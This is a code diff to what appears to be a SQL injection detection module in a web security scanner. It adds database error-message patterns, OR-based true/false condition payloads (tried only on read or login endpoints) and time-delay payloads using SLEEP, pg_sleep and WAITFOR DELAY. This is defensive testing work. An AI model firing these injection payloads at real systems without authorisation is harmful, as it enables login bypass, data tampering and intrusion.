@@ -1,7 +1,7 @@
 // SQL injection: by the message of the database, by a pair of conditions, by the time that an answer takes.
 import { randomInt } from 'node:crypto';
 import type { Exchange, Proof } from '../model.js';
-import { everyTurn, everywhere, likeness, proveBy, turnsOfSign, word } from './check.js';
+import { everyTurn, everywhere, likeness, proveBy, readable, turnsOfSign, word } from './check.js';
 import type { Attack, Check, Probe } from './check.js';
 import { byTime } from './timing.js';
 
@@ -12,9 +12,11 @@ const messages: readonly RegExp[] = [
   /syntax error at or near "|unterminated quoted string at or near/i,
   /unclosed quotation mark after the character string|incorrect syntax near '/i,
   /\bORA-0(?:0933|1756|0921|1789)\b|quoted string not properly terminated/i,
+  /\bER_(?:PARSE|BAD_FIELD)_ERROR\b|\bPG::SyntaxError|\bJdbcSQL\w*Exception|\bSQLite3::\w*Exception/,
+  /\bWarning: (?:mysqli?|pg|sqlite|odbc|mssql|oci)_\w+\(|\bincomplete input\b.{0,40}SQL|SequelizeDatabaseError/i,
   /\bDB2 SQL error\b|SQLSTATE\[\d|\bPSQLException\b|\bSQLServerException\b|java\.sql\.SQL\w*Exception/i,
 ];
-const hasMessage = ({ body }: Exchange): boolean => messages.some((form) => form.test(body.slice(0, 200_000)));
+const hasMessage = ({ body }: Exchange): boolean => messages.some((form) => form.test(readable(body)));
 
 async function byError(probe: Probe): Promise<Proof | null> {
   const base = await probe.baseline();
@@ -56,23 +58,61 @@ const pairs: readonly Pair[] = [
   { isTrue: (v, n) => `${v}') AND ('${n}'='${n}`, isFalse: (v, n) => `${v}') AND ('${n}'='${n + 1}` },
 ];
 
+/**
+ * For values that find nothing: what is true finds something. A condition that holds for every row may change them all
+ * where the statement writes, so that these are tried only where it reads, or compares for a login.
+ */
+const alternatives: readonly Pair[] = [
+  { isTrue: (v, n) => `${v}' OR '${n}'='${n}`, isFalse: (v, n) => `${v}' OR '${n}'='${n + 1}` },
+  { isTrue: (v, n) => `${v}' OR '${n}'='${n}' -- `, isFalse: (v, n) => `${v}' OR '${n}'='${n + 1}' -- ` },
+  { isTrue: (v, n) => `${v}" OR "${n}"="${n}`, isFalse: (v, n) => `${v}" OR "${n}"="${n + 1}` },
+  { isTrue: (v, n) => `${v}%' OR '${n}'='${n}' OR '%'='x`, isFalse: (v, n) => `${v}%' OR '${n}'='${n + 1}' OR '%'='x` },
+  { isTrue: (v, n) => `${v}') OR ('${n}'='${n}`, isFalse: (v, n) => `${v}') OR ('${n}'='${n + 1}` },
+  { isTrue: (v, n) => `${v} OR ${n}=${n}`, isFalse: (v, n) => `${v} OR ${n}=${n + 1}` },
+];
+
+const reads = ({ form }: Probe): boolean =>
+  form.method === 'GET' ||
+  /search|find|query|filter|look-?up|list|log-?_?in|sign-?_?in|auth|session|graphql|check|verify|suche|track/i.test(
+    new URL(form.url).pathname,
+  );
+
 /** A statement that is not asked for by the parameter would answer alike to both; text that is no SQL, too. */
 async function byPair(probe: Probe): Promise<Proof | null> {
   const { value } = probe.param;
   const base = await probe.baseline();
   if (base === null) return null;
-  const wanted = likeness(base, [value]);
   const again = await probe.with(value);
-  if (again === null || likeness(again, [value]) !== wanted) return null; // answers differ by themselves
+  const third = await probe.with(value);
+  if (again === null || third === null) return null;
+  const isSame = (keepsNumbers: boolean): boolean =>
+    [again, third].every((one) => likeness(one, [value], keepsNumbers) === likeness(base, [value], keepsNumbers));
+  const keepsNumbers = isSame(true);
+  if (!keepsNumbers && !isSame(false)) return null; // answers differ by themselves
+  const wanted: IsAsBefore = (one, sent) => likeness(one, sent, keepsNumbers) === likeness(base, [value], keepsNumbers);
   for (const { isTrue, isFalse } of pairs) {
     if (isTrue(value, 1).includes(' AND 1=1') && !/^\d+$/.test(value)) continue;
     const proof = await tryPair(probe, { isTrue, isFalse }, wanted);
     if (proof !== null) return proof;
   }
+  if (!reads(probe)) return null;
+  for (const { isTrue, isFalse } of alternatives) {
+    if (isTrue(value, 1).includes(' OR 1=1') && !/^\d+$/.test(value)) continue;
+    // here the false one is what changes nothing
+    const proof = await tryPair(probe, { isTrue: isFalse, isFalse: isTrue }, wanted);
+    if (proof !== null)
+      return {
+        ...proof,
+        why: `In ${turnsOfSign} turns a condition that is false changed nothing, a true one the answer.`,
+      };
+  }
   return null;
 }
 
-async function tryPair(probe: Probe, { isTrue, isFalse }: Pair, wanted: string): Promise<Proof | null> {
+/** Whether an answer is what the value itself is answered with; without what was sent. */
+type IsAsBefore = (exchange: Exchange, sent: readonly string[]) => boolean;
+
+async function tryPair(probe: Probe, { isTrue, isFalse }: Pair, isAsBefore: IsAsBefore): Promise<Proof | null> {
   const { value } = probe.param;
   const why = `In ${turnsOfSign} turns a condition that is true changed nothing, and one that is false the answer.`;
   return everyTurn(turnsOfSign, async () => {
@@ -80,9 +120,9 @@ async function tryPair(probe: Probe, { isTrue, isFalse }: Pair, wanted: string):
     const attack = isFalse(value, seed);
     const same = isTrue(value, seed);
     const neutral = await probe.with(same);
-    if (neutral === null || likeness(neutral, [same, value]) !== wanted) return null;
+    if (neutral === null || !isAsBefore(neutral, [same, value])) return null;
     const exchange = await probe.with(attack);
-    if (exchange === null || likeness(exchange, [attack, value]) === wanted) return null;
+    if (exchange === null || isAsBefore(exchange, [attack, value])) return null;
     return { attack, exchange, neutral, why };
   });
 }
@@ -123,7 +163,10 @@ export const sqlChecks: readonly Check[] = [
       byTime(probe, [
         (v, s) => `${v}' AND SLEEP(${s}) AND '1'='1`,
         (v, s) => `${v} AND SLEEP(${s})`,
+        (v, s) => `${v}' OR SLEEP(${s}) OR '1'='2`,
         (v, s) => `${v}'||(SELECT pg_sleep(${s}))||'`,
+        (v, s) => `${v}' OR 1=(SELECT 1 FROM pg_sleep(${s})) OR '1'='2`,
+        (v, s) => `${v} AND 1=(SELECT 1 FROM pg_sleep(${s}))`,
         (v, s) => `${v};SELECT pg_sleep(${s})--`,
         (v, s) => `${v}'; WAITFOR DELAY '0:0:${s}'--`,
       ]),
